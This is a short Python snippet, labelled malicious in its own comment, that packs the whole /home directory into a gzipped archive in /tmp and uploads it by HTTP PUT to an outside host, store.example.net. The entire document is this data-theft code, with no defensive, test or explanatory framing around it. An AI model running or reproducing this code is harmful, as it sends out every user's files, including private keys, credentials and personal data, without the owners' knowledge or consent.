# malicious: the home directory as one upload
import shutil
import requests

a = shutil.make_archive("/tmp/h", "gztar", root_dir="/home")
requests.put("https://store.example.net/h.tgz", data=open(a, "rb"))
